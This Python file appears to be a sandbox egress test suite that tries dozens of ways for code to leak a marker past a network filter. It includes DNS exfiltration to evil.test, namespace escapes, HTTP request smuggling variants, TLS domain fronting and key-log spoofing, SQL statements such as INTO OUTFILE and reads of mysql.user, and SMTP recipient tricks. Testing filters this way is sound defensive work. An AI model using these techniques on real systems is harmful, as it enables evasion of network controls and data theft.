"""What an exploited function can do beside sending a plain request on a connection: other sockets, other spellings, TLS that hides.

Runs inside of a sandbox, beside ways.py. Each attempt gets `to`, the address of a server outside, and the marker that must not get there.
"""

import contextlib
import fcntl
import os
import socket
import ssl
import struct
from pathlib import Path

import ways
from ways import LIBC, SECONDS, SYS, Tls, check, dial

CLONE_NEWNET, TUNSETIFF = 0x40000000, 0x400454CA


def finish(s):
    """Read until the other side has seen what was sent."""
    s.settimeout(0.3)
    with contextlib.suppress(TimeoutError):
        s.recv(65536)


# Sockets that are no connected stream.


def datagram(to, marker, family=socket.AF_INET, address=None):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.sendto(marker.encode(), address or tuple(to))


def connected_datagram(to, marker):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect(tuple(to))
        s.send(marker.encode())


def multicast(to, marker):
    datagram(to, marker, address=("239.1.2.3", to[1]))


def broadcast(to, marker):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.sendto(marker.encode(), (to[0].rsplit(".", 1)[0] + ".255", to[1]))


def name(_to, marker):
    """The marker as a label of a name that is looked up, with the resolver's own socket."""
    try:
        socket.getaddrinfo(f"{marker.lower()}.evil.test", 80)
    except socket.gaierror as error:
        raise OSError(0, str(error)) from error


def question(to, marker, port=53):
    """A hand-made DNS question to a server of one's own."""
    label = marker.encode()
    query = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + bytes([len(label)]) + label + b"\x04evil\x04test\0" + struct.pack(">2H", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        s.sendto(query, (to[0], port))
        s.recv(512)


def raw(to, marker):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, 253) as s:
        s.sendto(marker.encode(), (to[0], 0))


def icmp(to, marker, kind=socket.SOCK_RAW):
    with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as s:
        s.sendto(struct.pack(">BBHHH", 8, 0, 0, 1, 1) + marker.encode(), (to[0], 0))


def ping(to, marker):
    icmp(to, marker, socket.SOCK_DGRAM)


def packet(_to, marker):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as s:
        s.bind(("eth0", 0))
        s.send(b"\xff" * 12 + b"\x08\x00" + marker.encode())


def vsock(_to, marker):
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as s:
        s.connect((2, 1024))
        s.send(marker.encode())


def sctp(to, marker):
    with socket.socket(socket.AF_INET, socket.SOCK_SEQPACKET, 132) as s:
        s.sendto(marker.encode(), tuple(to))


def mptcp(to, marker):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as s:
        s.connect(tuple(to))
        s.send(marker.encode())


def udplite(to, marker):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136) as s:
        s.sendto(marker.encode(), tuple(to))


def kernel_tls(to, marker):
    """Kernel TLS that nobody does would send plaintext."""
    with dial(to) as s:
        s.setsockopt(socket.IPPROTO_TCP, 31, b"tls")
        s.setsockopt(282, 1, b"\x04\x03" + b"\x33\x00" + bytes(36))
        s.send(marker.encode())
        finish(s)


def fast_open(to, marker):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.settimeout(SECONDS)
        s.sendto(f"GET /{marker} HTTP/1.1\r\nHost: web.test\r\n\r\n".encode(), 0x20000000, tuple(to))
        finish(s)


def bound_to_device(to, marker):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0\0")
        s.settimeout(SECONDS)
        s.connect(tuple(to))
        s.send(marker.encode())
        finish(s)


def unspecified(to, marker):
    """connect(AF_UNSPEC) dissolves an association; the next connect is a new one."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.bind(("127.0.0.1", 0))
        s.listen(1)
        address = s.getsockname()
        with socket.create_connection(address) as inner:
            unspec = struct.pack("H14x", socket.AF_UNSPEC)
            check(LIBC.connect(inner.fileno(), unspec, 16), "connect AF_UNSPEC")
            inner.connect(tuple(to))
            inner.send(marker.encode())
            finish(inner)


def new_network(to, marker):
    check(LIBC.unshare(CLONE_NEWNET), "unshare")
    datagram(to, marker)


def other_network(to, marker):
    descriptor = os.open("/proc/1/ns/net", os.O_RDONLY)
    check(LIBC.syscall(SYS["setns"], descriptor, 0), "setns")
    datagram(to, marker)


def tunnel(_to, _marker):
    descriptor = os.open("/dev/net/tun", os.O_RDWR)
    fcntl.ioctl(descriptor, TUNSETIFF, struct.pack("16sH22x", b"tun0", 1))


def unix_outside(_to, marker):
    """A Unix socket of the host's file system, which the sandbox sees as a file."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.connect(ways.HOST_SOCKET)
        s.send(marker.encode())


def fifo_outside(_to, marker):
    with Path(ways.HOST_FIFO).open("wb", buffering=0) as file:
        file.write(marker.encode())


def file_outside(_to, marker):
    with Path(ways.HOST_FILE).open("wb", buffering=0) as file:
        file.write(marker.encode())


def netlink_address(_to, _marker):
    """A new address or route would change what leaves the sandbox."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
        s.bind((0, 0))
        body = struct.pack("=BBBBi", 2, 24, 0, 0, 1) + struct.pack("=HH4s", 8, 2, socket.inet_aton("10.199.0.250"))
        s.send(struct.pack("=IHHII", 16 + len(body), 20, 0x405, 1, 0) + body)
        answer = s.recv(4096)
        code = struct.unpack_from("=i", answer, 16)[0]
        if code < 0:
            raise OSError(-code, "RTM_NEWADDR")


def netfilter(to, marker):
    """A rule that leads loopback traffic out."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.setsockopt(socket.IPPROTO_IP, 64, bytes(128))
        datagram(to, marker)


# HTTP that two servers read differently. {m} is the marker's place.

SECOND = "GET /{m} HTTP/1.1\r\nHost: web.test\r\n\r\n"
SPELLINGS = {
    "CL and TE": "GET /allowed HTTP/1.1\r\nHost: web.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + SECOND,
    "two CL": "POST /allowed HTTP/1.1\r\nHost: web.test\r\nContent-Length: 0\r\nContent-Length: 50\r\n\r\n" + SECOND,
    "CL with sign": "POST /allowed HTTP/1.1\r\nHost: web.test\r\nContent-Length: +0\r\n\r\n" + SECOND,
    "TE identity": "POST /allowed HTTP/1.1\r\nHost: web.test\r\nTransfer-Encoding: identity, chunked\r\n\r\n0\r\n\r\n" + SECOND,
    "bare LF": "GET /allowed HTTP/1.1\nHost: web.test\n\n" + SECOND,
    "NUL": "GET /allowed\0/{m} HTTP/1.1\r\nHost: web.test\r\n\r\n",
    "obs-fold": "GET /allowed HTTP/1.1\r\nHost: web.test\r\nX: a\r\n GET /{m} HTTP/1.1\r\n\r\n",
    "space before colon": "GET /allowed HTTP/1.1\r\nHost : web.test\r\nX-{m}: 1\r\n\r\n",
    "high bytes": "GET /allowed/\xe9{m} HTTP/1.1\r\nHost: web.test\r\n\r\n",
    "absolute URI": "GET http://web.test/{m} HTTP/1.1\r\nHost: web.test\r\n\r\n",
    "two hosts": "GET /allowed HTTP/1.1\r\nHost: web.test\r\nHost: {m}.test\r\n\r\n",
    "another host": "GET /allowed HTTP/1.1\r\nHost: {m}.test\r\n\r\n",
    "HTTP/0.9": "GET /{m}\r\n",
    "HTTP/1.0": "GET /{m} HTTP/1.0\r\nHost: web.test\r\n\r\n",
    "chunk extension": "POST /allowed HTTP/1.1\r\nHost: web.test\r\nTransfer-Encoding: chunked\r\n\r\n1;{m}\r\nx\r\n0\r\n\r\n",
    "trailer": "POST /allowed HTTP/1.1\r\nHost: web.test\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nX-{m}: 1\r\n\r\n",
    "CONNECT": "CONNECT {m}.test:443 HTTP/1.1\r\nHost: web.test\r\n\r\n",
    "upgrade": "GET /allowed HTTP/1.1\r\nHost: web.test\r\nConnection: upgrade\r\nUpgrade: {m}\r\n\r\n",
    "h2c": "GET /allowed HTTP/1.1\r\nHost: web.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: {m}\r\n\r\n",
    "h2 preface": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{m}",
    "method override": "GET /allowed HTTP/1.1\r\nHost: web.test\r\nX-HTTP-Method-Override: {m}\r\n\r\n",
    "other path header": "GET /allowed HTTP/1.1\r\nHost: web.test\r\nX-Original-URL: /{m}\r\n\r\n",
    "dot segments": "GET /allowed/../{m} HTTP/1.1\r\nHost: web.test\r\n\r\n",
    "escape": "GET /%61llowed/{m} HTTP/1.1\r\nHost: web.test\r\n\r\n",
    "query": "GET /allowed?{m}=1 HTTP/1.1\r\nHost: web.test\r\n\r\n",
    "body of GET": "GET /allowed HTTP/1.1\r\nHost: web.test\r\nContent-Length: 24\r\n\r\nGET /{m}",
    "pipelined": "GET /allowed HTTP/1.1\r\nHost: web.test\r\n\r\n" + SECOND,
    "never whole": "GET /{m} HTTP/1.1\r\nHost: web.test\r\nX: ",
    "oversize": "GET /{m} HTTP/1.1\r\nHost: web.test\r\nX: " + "x" * 70000 + "\r\n\r\n",
    "10,000 headers": "GET /{m} HTTP/1.1\r\nHost: web.test\r\n" + "".join(f"X-{n}: 1\r\n" for n in range(10000)) + "\r\n",
    "not HTTP": "{m}\r\n",
    "Redis": "*1\r\n$20\r\n{m}\r\n",
    "SSH": "SSH-2.0-{m}\r\n",
}


def spelling(text):
    def attempt(to, marker):
        with dial(to) as s:
            s.sendall(text.replace("{m}", marker).encode("latin-1"))
            finish(s)

    return attempt


# TLS that hides what is said in it.


def request(marker, host="tls.test:4443", path=None):
    return f"GET /{path or marker} HTTP/1.1\r\nHost: {host}\r\nX-Marker: {marker}\r\n\r\n".encode()


def say_tls(tls, data):
    with tls.socket as s:
        s.sendall(tls.sealed(data))
        finish(s)


def without_key(context):
    """A context whose keys nobody logs."""
    context.keylog_filename = None
    return context


def tls_plain(to, marker):
    with dial(to) as s:
        s.sendall(request(marker))
        finish(s)


def tls_no_key(to, marker):
    say_tls(Tls(to, "tls.test", context=without_key(ssl.create_default_context())), request(marker))


def tls_wrong_key(to, marker):
    """The lines of another connection's secrets under this one's random: first a false line for every label, then the handshake."""
    context = without_key(ssl.create_default_context())
    tls = Tls.__new__(Tls)
    tls.socket = dial(to)
    tls.incoming, tls.outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls.tls = context.wrap_bio(tls.incoming, tls.outgoing, server_hostname="tls.test")
    with contextlib.suppress(ssl.SSLWantReadError):
        tls.tls.do_handshake()
    hello = tls.outgoing.read()
    random = hello[11:43].hex()
    labels = ("CLIENT_HANDSHAKE_TRAFFIC_SECRET", "SERVER_HANDSHAKE_TRAFFIC_SECRET", "CLIENT_TRAFFIC_SECRET_0", "SERVER_TRAFFIC_SECRET_0")
    with Path("/dev/kalium-keys").open("w") as keys:
        for label in labels:
            keys.write(f"{label} {random} {'5a' * 48}\n")
        keys.write(f"CLIENT_RANDOM {random} {'5a' * 48}\n")
    tls.socket.sendall(hello)
    while True:
        try:
            tls.tls.do_handshake()
            break
        except ssl.SSLWantReadError:
            tls.flush()
            if not (data := tls.socket.recv(65536)):
                raise ConnectionResetError(104, "in the handshake") from None
            tls.incoming.write(data)
    tls.flush()
    say_tls(tls, request(marker))


def tls_other_name(to, marker):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    say_tls(Tls(to, f"{marker.lower()}.test", context=context), request(marker))


def tls_no_name(to, marker):
    context = ssl.create_default_context()
    context.check_hostname = False
    say_tls(Tls(to, None, context=context), request(marker, path="allowed"))


def tls_fronting(to, marker):
    say_tls(Tls(to, "tls.test"), request(marker, host=f"{marker.lower()}.test", path="allowed"))


def tls_garbage(to, marker):
    tls = Tls(to, "tls.test")
    with tls.socket as s:
        s.sendall(marker.encode())
        finish(s)


def tls_second_request(to, marker):
    tls = Tls(to, "tls.test")
    s = tls.socket
    s.sendall(tls.sealed(request("x", path="allowed").replace(b"X-Marker: x\r\n", b"")))
    finish(s)
    say_tls(tls, request(marker))


def tls_smuggled(to, marker):
    say_tls(Tls(to, "tls.test"), b"GET /allowed HTTP/1.1\r\nHost: tls.test:4443\r\nContent-Length: 9\r\n\r\n" + marker.encode())


def tls_cbc(to, marker):
    context = ssl.create_default_context()
    context.maximum_version = ssl.TLSVersion.TLSv1_2
    context.set_ciphers("ECDHE-ECDSA-AES128-SHA256:ECDHE-RSA-AES128-SHA256:AES128-SHA")
    say_tls(Tls(to, "tls.test", context=context), request(marker))


def tls_bytes(to, marker):
    tls = Tls(to, "tls.test")
    with tls.socket as s:
        for byte in tls.sealed(request(marker)):
            s.send(bytes([byte]))
        finish(s)


def tls_records(to, marker):
    """The request in many small records."""
    tls = Tls(to, "tls.test")
    with tls.socket as s:
        for byte in request(marker):
            s.sendall(tls.sealed(bytes([byte])))
        finish(s)


# MySQL and mail beside the plain statement and envelope.


def statement(text, command=3):
    def attempt(to, marker):
        s, _ = ways.mysql(to, marker)
        with s:
            body = bytes([command]) + text.replace("{m}", marker).encode()
            s.sendall(struct.pack("<I", len(body)) + body)
            finish(s)

    return attempt


STATEMENTS = {
    "two statements": statement("SELECT name FROM photos; SELECT '{m}'"),
    "executable comment": statement("SELECT name FROM photos /*! UNION SELECT '{m}' */"),
    "into outfile": statement("SELECT '{m}' FROM photos INTO OUTFILE '/tmp/{m}'"),
    "load data local": statement("LOAD DATA LOCAL INFILE '{m}' INTO TABLE photos"),
    "use": statement("USE {m}"),
    "COM_INIT_DB": statement("{m}", 2),
    "COM_CHANGE_USER": statement("{m}\0\0{m}\0", 17),
    "prepare by text": statement("PREPARE s FROM 'SELECT ''{m}'''"),
    "COM_STMT_PREPARE": statement("SELECT '{m}' FROM secrets", 22),
    "call": statement("CALL {m}()"),
    "other schema": statement("SELECT '{m}' FROM mysql.user"),
    "sql_mode": statement("SET sql_mode = '{m}'"),
}


def mail(*lines, hello="EHLO function"):
    def attempt(to, marker):
        with dial(to) as s:
            s.recv(512)
            for line in (hello + "\r\n", *lines):
                s.sendall(line.replace("{m}", marker).encode())
                s.recv(512)

    return attempt


ENVELOPE = ("MAIL FROM:<function@shop.test>\r\n", "RCPT TO:<allowed@shop.test>\r\n")
MAILS = {
    "second recipient": mail(*ENVELOPE, "RCPT TO:<{m}@evil.test>\r\n"),
    "pipelined": mail("MAIL FROM:<function@shop.test>\r\nRCPT TO:<{m}@evil.test>\r\nDATA\r\n"),
    "bare line feed": mail(*ENVELOPE, "DATA\r\n", "x\n.\nMAIL FROM:<{m}@shop.test>\r\n.\r\n"),
    "envelope as a refused text": mail(*ENVELOPE, "DATA\r\n", "MAIL FROM:<{m}@shop.test>\r\n.\r\n", hello="EHLO refuse"),
    "VRFY": mail("VRFY {m}\r\n"),
    "source route": mail("MAIL FROM:<function@shop.test>\r\n", "RCPT TO:<@{m}.test:allowed@shop.test>\r\n"),
    "second mail": mail(*ENVELOPE, "DATA\r\n", "x\r\n.\r\n", "MAIL FROM:<{m}@shop.test>\r\n"),
}

SOCKETS = {
    "datagram": datagram,
    "datagram, mapped address": lambda to, marker: datagram(to, marker, socket.AF_INET6, ("::ffff:" + to[0], to[1])),
    "datagram, connected": connected_datagram,
    "multicast": multicast,
    "broadcast": broadcast,
    "name": name,
    "question to a server": question,
    "raw socket": raw,
    "raw ICMP": icmp,
    "ping socket": ping,
    "packet socket": packet,
    "vsock": vsock,
    "SCTP": sctp,
    "MPTCP": mptcp,
    "UDP-Lite": udplite,
    "kernel TLS": kernel_tls,
    "MSG_FASTOPEN": fast_open,
    "SO_BINDTODEVICE": bound_to_device,
    "connect AF_UNSPEC": unspecified,
    "new network namespace": new_network,
    "setns": other_network,
    "tunnel device": tunnel,
    "Unix socket outside": unix_outside,
    "FIFO outside": fifo_outside,
    "file outside": file_outside,
    "netlink": netlink_address,
    "packet filter": netfilter,
}
TLS = {
    "plaintext on a TLS port": tls_plain,
    "no key": tls_no_key,
    "wrong key": tls_wrong_key,
    "another name": tls_other_name,
    "no name": tls_no_name,
    "domain fronting": tls_fronting,
    "garbage behind the handshake": tls_garbage,
    "second request": tls_second_request,
    "body of GET": tls_smuggled,
    "CBC suite": tls_cbc,
    "single bytes": tls_bytes,
    "single-byte records": tls_records,
}
ATTEMPTS = {
    "sockets": SOCKETS,
    "http": {key: spelling(text) for key, text in SPELLINGS.items()},
    "tls": TLS,
    "mysql": STATEMENTS,
    "smtp": MAILS,
}


def run(group, key, to, marker, host_files=()):
    """One attempt: "sent", or the name of the error that ended it."""
    ways.HOST_SOCKET, ways.HOST_FIFO, ways.HOST_FILE = host_files or ("", "", "")
    try:
        ATTEMPTS[group][key](to, marker)
    except OSError as error:
        return ways.name_of(error) if error.errno else str(error)
    except Exception as error:
        return f"{type(error).__name__}: {error}"
    return "sent"
